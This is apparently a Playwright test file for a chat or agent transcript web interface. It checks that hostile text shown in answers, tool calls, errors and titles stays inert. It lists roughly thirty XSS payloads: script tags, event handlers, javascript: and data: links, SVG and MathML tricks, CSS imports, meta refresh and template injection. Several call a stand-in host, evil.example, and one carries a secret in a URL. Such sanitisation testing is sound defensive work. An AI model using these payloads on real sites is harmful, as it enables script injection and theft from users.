"""Whatever a text contains: nothing runs, nothing is styled, nothing is fetched, and the words can be read."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, expect

from .conftest import OpenTab
from .screen import ask, expected, last_turn, session_of, shown, wait_ended
from .server import Server

EVIL = "https://evil.example"
ATTEMPTS = [
    "<script>window.pwned = 'script'</script>",
    "</script><script>window.pwned = 'closing script'</script>",
    "<img src=x onerror=\"window.pwned = 'img'\">",
    f"<img src='{EVIL}/img.png'>",
    "<svg onload=\"window.pwned = 'svg'\"><script>window.pwned = 'svg script'</script></svg>",
    "<svg><animate onbegin=\"window.pwned = 'animate'\" attributeName=x dur=1s>",
    "<style>* { display: none !important } @import url('" + EVIL + "/style.css');</style>",
    f"<link rel=stylesheet href='{EVIL}/link.css'>",
    f"<iframe src='{EVIL}/frame'></iframe><iframe srcdoc=\"<script>parent.pwned = 'srcdoc'</script>\"></iframe>",
    "<div style=\"position: fixed; inset: 0; background: url('" + EVIL + "/bg.png')\">over it all</div>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=\"window.pwned = 'xml'\"></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.pwned = 'mglyph'\">",
    "<a href=\"javascript:window.pwned = 'a'\">a link</a>",
    f"<form action='{EVIL}/form'><input name=q autofocus onfocus=\"window.pwned = 'focus'\"></form>",
    "<details open ontoggle=\"window.pwned = 'toggle'\">",
    f"<video src='{EVIL}/film' autoplay onerror=\"window.pwned = 'video'\"></video>",
    "<base href='" + EVIL + "/'><meta http-equiv=refresh content='0; url=" + EVIL + "'>",
    "[click](javascript:window.pwned='md-link')",
    "[click](JaVaScRiPt:window.pwned='md-case')",
    "[click](javascript&colon;window.pwned='md-entity')",
    "[click](java\tscript:window.pwned='md-tab')",
    "[click](data:text/html,<script>opener.pwned='data'</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:window.pwned='autolink'>",
    "[late click][x]",
    f"![picture]({EVIL}/md.png?secret=1) and ![p](data:image/svg+xml,<svg/onload=alert(1)>)",
    f"[](){{onclick=alert(1)}} [a]({EVIL}/\"onmouseover=\"window.pwned='attr')",
    "```\"><img/src/onerror=window.pwned='lang'>\ncode <img src=x onerror=\"window.pwned = 'code'\">\n```",
    "| <img src=x onerror=\"window.pwned = 'cell'\"> |\n|---|\n| <b onclick=\"window.pwned = 'b'\">b</b> |",
    "$\\href{javascript:window.pwned='maths'}{x}$ $\\style{display:none}{x}$ $</math><img src=x onerror=pwned=1>$",
    "$$\\text{<img src=x onerror=\"window.pwned='text'\">}$$",
    "&lt;img src=x onerror=\"window.pwned = 'entities'\"&gt;",
    "{{ window.pwned = 'vue' }} ${window.pwned = 'template'} {{constructor.constructor('window.pwned=1')()}}",
    "\u202eright to left\u202c and \x00 nul and \u2028 line",
]
HOSTILE = "\n\n".join(ATTEMPTS) + "\n\n[x]: javascript:window.pwned='late'\n"
FORBIDDEN = "script, style, link, img, iframe, form, video, base, meta, object, embed, annotation-xml"
LOOK = """(FORBIDDEN) => ({
  pwned: window.pwned ?? null,
  elements: [...document.querySelectorAll(".ta-transcript, .ta-sessions, .ta-header, .ta-footer")].flatMap((part) =>
    [...part.querySelectorAll(FORBIDDEN)].map((element) => element.outerHTML)),
  handlers: [...document.querySelectorAll(".ta-transcript *")].filter((element) =>
    [...element.attributes].some(({ name }) => name.startsWith("on"))).map((element) => element.outerHTML),
  styled: [...document.querySelectorAll(".ta-md [style]")].map((element) => element.outerHTML),
  links: [...document.querySelectorAll(".ta-transcript a")].map((a) => [a.protocol, a.target, a.rel]),
})"""


def assert_harmless(page: Page) -> None:
    """Clicks every link, too. What is fetched from elsewhere is an error in any test: see conftest.py."""
    look = page.evaluate(LOOK, FORBIDDEN)
    assert look["pwned"] is None
    assert look["elements"] == look["handlers"] == look["styled"] == []
    for protocol, target, rel in look["links"]:
        assert protocol in ("http:", "https:", "mailto:")
        assert target == "_blank"
        assert "noopener" in rel
        assert "noreferrer" in rel
    expect(page.get_by_label("Message", exact=True)).to_be_visible()
    assert page.evaluate("document.elementFromPoint(600, 780).closest('.ta-footer') !== null"), "something is over it"


def test_a_hostile_answer_is_words_and_no_more(server: Server, open_tab: OpenTab) -> None:
    page = open_tab(server.url)
    (server.folder / "docs" / "hostile.md").write_text(f"# Zanzibar hostile\n\nzanzibar {HOSTILE}", encoding="utf-8")
    hostile = "<img src=x onerror=\"window.pwned = 'tool'\">"
    steps = [
        ["think", HOSTILE],
        ["call", hostile, {hostile: hostile, "q": HOSTILE}],
        ["call", "search", {"query": "zanzibar hostile"}],
    ]
    said = [["say", HOSTILE[at : at + 7]] for at in range(0, len(HOSTILE), 7)]
    ask(page, server.write("hostile", steps, said, pace=0.002))
    wait_ended(page)
    while (folded := page.locator("[data-folded=true] .ta-head")).count():
        folded.first.click()
    assert_harmless(page)
    assert "zanzibar" in last_turn(page).locator("[data-kind=observation]").last.text_content()
    assert "<script>window.pwned" in last_turn(page).locator("[data-kind=answer]").text_content()
    assert shown(page) == expected(page, server.log(session_of(page)))
    page.reload()
    wait_ended(page)
    assert_harmless(page)


def test_a_failed_turn_with_a_hostile_reason_is_words(server: Server, open_tab: OpenTab) -> None:
    page = open_tab(server.url)
    ask(page, server.write("reason", [["fail", HOSTILE]]))
    wait_ended(page, "failed")
    assert_harmless(page)


@pytest.mark.parametrize("attempt", [ATTEMPTS[1], "<img src=x onerror=pwned=1>{{pwned=2}}"])
def test_a_hostile_message_is_a_title_and_a_bubble(server: Server, open_tab: OpenTab, attempt: str) -> None:
    page = open_tab(server.url)
    message = f"{server.write('short', [['say', 'Well.']])} {attempt}"
    ask(page, message)
    session_of(page)
    wait_ended(page)
    expect(page.locator(".ta-bubble")).to_have_text(message)
    start = message[:30]
    expect(page.locator("h1")).to_contain_text(start)
    expect(page.locator(".ta-session.ta-current")).to_contain_text(start)
    assert start in page.title()
    assert_harmless(page)
    page.get_by_role("searchbox", name="Search sessions").fill("pwned")
    expect(page.locator(".ta-session mark").first).to_have_text("pwned")
    assert_harmless(page)
    page.locator(".ta-title-button").click()
    expect(page.get_by_label("Title")).to_have_value(page.locator("h1").inner_text())
    page.keyboard.press("Escape")
    page.reload()
    wait_ended(page)
    assert_harmless(page)
    page.locator(".ta-current .ta-tool").click()
    page.get_by_role("menuitem", name="Delete").click()
    expect(page.locator(".ta-toast")).to_contain_text(start)
    assert_harmless(page)
